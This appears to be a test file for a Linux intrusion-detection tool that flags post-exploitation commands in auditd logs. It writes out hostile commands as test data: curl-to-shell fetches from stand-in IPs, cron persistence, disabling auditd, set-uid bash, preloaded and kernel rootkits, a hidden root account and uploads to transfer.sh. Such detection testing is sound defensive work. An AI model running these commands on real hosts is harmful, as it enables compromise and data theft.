// What an intruder does on a Linux host after getting in, as auditd's EXECVE records show it: the
// steps miner and botnet scripts and hands-on intruders take (an encoded command, a cron job,
// auditing stopped, a set-uid shell, a preloaded library, a rootkit module, a second root, files
// locked, data uploaded to a file-sharing service), each beside the administrator's command that
// looks like it and must stay quiet.
import { afterAll, describe, expect, it } from 'vitest';
import { analysePlanted, cleanupPlanted, listFindings, logFiles } from './plantedKit';
import { decodedShellCommand } from '../../../src/core/analysis/linuxRules';
import { processRules } from '../../../src/core/analysis/processEvents';

afterAll(cleanupPlanted);

const ids = (command: string): string[] => processRules({ image: command.split(' ')[0]!, command, parent: null, linux: true }).map((r) => r.id);
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

describe('Linux process rules', () => {
  it('names each post-exploitation step and leaves the administrator\'s look-alike alone', () => {
    // an encoded command decoded into a shell or an interpreter; what it decodes to is named too
    expect(ids(`bash -c echo ${b64('curl -s http://198.51.100.7/x.sh | sh')} | base64 -d | bash`).sort()).toEqual(['decodeexec', 'fetchexec']);
    expect(ids(`sh -c echo ${b64('uname -a; id')}|base64 --decode|sh`)).toEqual(['decodeexec']);
    expect(ids(`python3 -c import base64;exec(base64.b64decode("${b64('import socket,os')}"))`)).toEqual(['decodeexec']);
    expect(ids('base64 -d /home/deploy/cert.b64')).toEqual([]);
    expect(ids('bash -c base64 -d backup.b64 > backup.tar.gz')).toEqual([]);
    // persistence
    expect(ids('bash -c (crontab -l 2>/dev/null; echo "@reboot /home/u/.cache/run") | crontab -')).toEqual(['cron']);
    expect(ids('bash -c echo "* * * * * root /tmp/.x/run" >> /etc/crontab')).toEqual(['cron']);
    expect(ids('crontab -l')).toEqual([]);
    expect(ids('crontab /tmp/ansible.cron')).toEqual([]);
    // blinding the host
    expect(ids('systemctl stop auditd')).toEqual(['auditoff']);
    expect(ids('service rsyslog stop')).toEqual(['auditoff']);
    expect(ids('auditctl -e 0')).toEqual(['auditoff']);
    expect(ids('pkill -9 falcon-sensor')).toEqual(['auditoff']);
    expect(ids('systemctl restart auditd')).toEqual([]);
    expect(ids('systemctl status rsyslog')).toEqual([]);
    expect(ids('auditctl -l')).toEqual([]);
    expect(ids('setenforce 0')).toEqual(['defenceoff']);
    expect(ids('iptables -F')).toEqual(['defenceoff']);
    expect(ids('ufw disable')).toEqual(['defenceoff']);
    expect(ids('iptables -L -n')).toEqual([]);
    expect(ids('setenforce 1')).toEqual([]);
    // back doors and rootkits
    expect(ids('chmod u+s /bin/bash')).toEqual(['suid']);
    expect(ids('chmod 4755 /tmp/.x/sh')).toEqual(['suid']);
    expect(ids('chmod 2775 /srv/shared')).toEqual([]);
    expect(ids('chmod u+x /home/deploy/run.sh')).toEqual([]);
    expect(ids('bash -c echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload')).toEqual(['preload']);
    expect(ids('cat /etc/ld.so.preload')).toEqual([]);
    expect(ids('insmod /tmp/.x/diamorphine.ko')).toEqual(['kmod']);
    expect(ids('modprobe reptile_module')).toEqual(['kmod']);
    expect(ids('modprobe br_netfilter')).toEqual([]);
    expect(ids('insmod /lib/modules/6.1.0-18-amd64/kernel/drivers/net/wireguard/wireguard.ko')).toEqual([]);
    expect(ids('useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm')).toEqual(['uid0']);
    expect(ids('bash -c echo "toor:x:0:0::/root:/bin/bash" >> /etc/passwd')).toEqual(['uid0']);
    expect(ids('useradd -m -u 1005 -s /bin/bash alice')).toEqual([]);
    expect(ids('chattr +i /var/spool/cron/crontabs/deploy')).toEqual(['lockfiles']);
    expect(ids('chattr -ia /root/.ssh/authorized_keys')).toEqual(['lockfiles']);
    expect(ids('chattr +i /etc/resolv.conf')).toEqual([]);
    // data out
    expect(ids('curl -T /tmp/.x/db.tgz https://transfer.sh/db.tgz')).toEqual(['exfil']);
    expect(ids('curl -F file=@/tmp/dump.sql https://0x0.st')).toEqual(['exfil']);
    expect(ids('rclone copy /var/lib/mysql mega:loot')).toEqual(['exfil']);
    expect(ids('curl -T build.tar.gz https://nexus.corp.example/repository/raw/')).toEqual([]);
    expect(ids('rclone ls remote:')).toEqual([]);
    // where it ran from, when nothing else names it
    expect(ids('/dev/shm/.k/kworker -c 12')).toEqual(['hidden']);
    expect(ids('/tmp/.ICE-unix/.x/sshd -D')).toEqual(['hidden']);
    expect(ids('/tmp/.x/xmrig -o stratum+tcp://pool.example:3333')).toEqual(['miner']);
    expect(ids('/tmp/nodesource_setup.sh')).toEqual([]);
  });

  it('decodes a Base64 command as text only, and reads hostile text as text', () => {
    expect(decodedShellCommand(`echo ${b64('id; uname -a')} | base64 -d | sh`)).toBe('id; uname -a');
    expect(decodedShellCommand(`base64 -d <<< ${b64('cat /etc/shadow')} | bash`)).toBe('cat /etc/shadow');
    expect(decodedShellCommand(`echo ${Buffer.from([0xff, 0xfe, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15]).toString('base64')} | base64 -d | sh`)).toBeNull();
    expect(decodedShellCommand('base64 -d file.b64')).toBeNull();
    for (const c of ['<script>alert(1)</script>', '=HYPERLINK("http://x","y")', 'a\u0000b', 'chmod +s '.repeat(30_000), `echo ${'QUFB'.repeat(50_000)} | base64 -d | sh`]) {
      const t0 = performance.now();
      expect(() => ids(c)).not.toThrow();
      expect(performance.now() - t0).toBeLessThan(2_000);
    }
  });
});

/**
 * A web server's raw audit.log in auditd's default ENRICHED format (names of ids appended after a 0x1D): SYSCALL,
 * EXECVE (arguments with spaces in hex, as auditd writes them), CWD and PROCTITLE per program run; sshd's USER_AUTH
 * and USER_LOGIN.
 */
function auditLog(): string[] {
  const rows: string[] = [];
  let serial = 9000;
  const t0 = Date.UTC(2026, 11, 5, 6) / 1000;
  const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex').toUpperCase();
  const stamp = (sec: number): string => `${(t0 + sec).toFixed(3)}:${serial++}`;
  const run = (sec: number, uid: number, args: string[]): void => {
    const at = stamp(sec);
    const comm = args[0]!.split('/').pop()!;
    rows.push(`type=SYSCALL msg=audit(${at}): arch=c000003e syscall=59 success=yes exit=0 a0=55d5c0a0 a1=55d5c0b0 a2=55d5c0c0 a3=0 items=2 ppid=2000 pid=${3000 + (serial % 5000)} auid=1001 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=pts0 ses=7 comm="${comm}" exe="/usr/bin/${comm}" subj=unconfined key="exec"\u001dARCH=x86_64 SYSCALL=execve AUID="deploy" UID="${uid === 0 ? 'root' : 'deploy'}" GID="${uid === 0 ? 'root' : 'deploy'}"`);
    rows.push(`type=EXECVE msg=audit(${at}): argc=${args.length} ${args.map((a, i) => `a${i}=${/[\s"'\\$]/.test(a) ? hex(a) : `"${a}"`}`).join(' ')}`);
    rows.push(`type=CWD msg=audit(${at}): cwd="/home/deploy"`);
    rows.push(`type=PROCTITLE msg=audit(${at}): proctitle=${hex(args.join('\u0000'))}`);
  };
  const auth = (sec: number, addr: string, res: 'success' | 'failed'): void => {
    rows.push(`type=USER_AUTH msg=audit(${stamp(sec)}): pid=812 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication grantors=${res === 'success' ? 'pam_unix' : '?'} acct="deploy" exe="/usr/sbin/sshd" hostname=${addr} addr=${addr} terminal=ssh res=${res}'\u001dUID="root" AUID="unset"`);
    if (res === 'success') rows.push(`type=USER_LOGIN msg=audit(${stamp(sec + 1)}): pid=812 uid=0 auid=1001 ses=7 subj=unconfined msg='op=login id=1001 exe="/usr/sbin/sshd" hostname=${addr} addr=${addr} terminal=/dev/pts/0 res=success'\u001dUID="root" AUID="deploy" ID="deploy"`);
  };
  // trap: a day of the deploy user's and cron's work, and the admin's logins from the office every 10 to 15 minutes
  const day: string[][] = [
    ['apt-get', 'update'],
    ['systemctl', 'restart', 'nginx'],
    ['tail', '-n', '200', '/var/log/nginx/error.log'],
    ['git', 'pull', 'origin', 'main'],
    ['curl', '-fsS', 'https://deb.nodesource.com/setup_20.x', '-o', '/tmp/nodesource_setup.sh'],
    ['bash', '/tmp/nodesource_setup.sh'],
    ['crontab', '-l'],
    ['base64', '-d', '/home/deploy/cert.b64'],
    ['iptables', '-L', '-n'],
    ['chattr', '+i', '/etc/resolv.conf'],
    ['systemctl', 'restart', 'auditd'],
    ['useradd', '-m', '-u', '1005', '-s', '/bin/bash', 'alice'],
  ];
  for (let i = 0; i < 600; i++) run(i * 120, i % 3 ? 1001 : 0, day[i % day.length]!);
  for (let i = 0; i < 80; i++) auth(i * 900 + ((i * 7919) % 300), '10.0.5.20', 'success');
  // planted: 60 guesses at deploy's password from outside, one that worked, and what followed as root
  const a = 24 * 3600;
  for (let i = 0; i < 60; i++) auth(a + i * 3, '185.220.101.45', 'failed');
  auth(a + 200, '185.220.101.45', 'success');
  const steps: string[][] = [
    ['bash', '-c', `echo ${b64('curl -s http://91.215.85.10/x.sh | sh')} | base64 -d | bash`],
    ['bash', '-c', '(crontab -l 2>/dev/null; echo "*/5 * * * * /home/deploy/.cache/.s/upd") | crontab -'],
    ['chattr', '+i', '/var/spool/cron/crontabs/deploy'],
    ['service', 'auditd', 'stop'],
    ['chmod', 'u+s', '/bin/bash'],
    ['bash', '-c', 'echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload'],
    ['insmod', '/tmp/.x/diamorphine.ko'],
    ['useradd', '-o', '-u', '0', '-g', '0', '-M', '-d', '/root', '-s', '/bin/bash', 'sysadm'],
    ['curl', '-T', '/tmp/.x/db.tgz', 'https://transfer.sh/db.tgz'],
  ];
  steps.forEach((s, i) => run(a + 300 + i * 20, 0, s));
  return rows;
}

describe('an auditd log after a guessed SSH password', () => {
  it('finds the guessing that worked and each step after it; the deploy user\'s day and the admin\'s logins stay quiet', async () => {
    const found = await analysePlanted('linux-rules-audit', (dir) => {
      const { put, files } = logFiles(dir);
      put('audit.log', auditLog());
      return files;
    });
    const procs = found.filter((f) => f.detector === 'processes');
    expect(procs.map((f) => `${f.severity}:${f.numbers.rule}`).sort(), listFindings(found)).toEqual([
      'high:auditoff', 'high:decodeexec', 'high:exfil', 'high:fetchexec', 'high:kmod', 'high:lockfiles', 'high:preload', 'high:suid', 'high:uid0', 'medium:cron',
    ]);
    // the hidden command is shown decoded, as text
    const decoded = procs.find((f) => f.numbers.rule === 'decodeexec')!;
    expect(decoded.explanation).toContain('decodes to “curl -s http://91.215.85.10/x.sh | sh” (shown, never run)');
    // who ran it: the SYSCALL record just before names the login user (auid) and whom it ran as
    expect(decoded.explanation).toContain('as root (logged in as deploy)');
    // sshd's records name the program (exe), not a path: the guessing is SSH's, and it worked
    const brute = found.find((f) => f.detector === 'bruteForce')!;
    expect(brute.severity).toBe('critical');
    expect(brute.title).toMatch(/^SSH brute force from 185\.220\.101\.45: 60 failed logins, then a success/);
    // the steps told as one story after the login that worked: root reached, so critical
    const story = found.find((f) => f.detector === 'hostTampering')!;
    expect(story.severity).toBe('critical');
    expect(story.title).toMatch(/^After a guessed SSH login as deploy from 185\.220\.101\.45, an unnamed machine: /);
    expect(story.explanation).toContain('“insmod /tmp/.x/diamorphine.ko” run as root (logged in as deploy): a kernel module loaded from a user folder');
    expect(story.numbers.steps).toBe(9);
    // the admin's regular logins are not beaconing to "/usr/sbin/sshd", and nothing about the office address
    expect(found.filter((f) => f.entity.includes('10.0.5.20')), listFindings(found)).toEqual([]);
  }, 60_000);
});
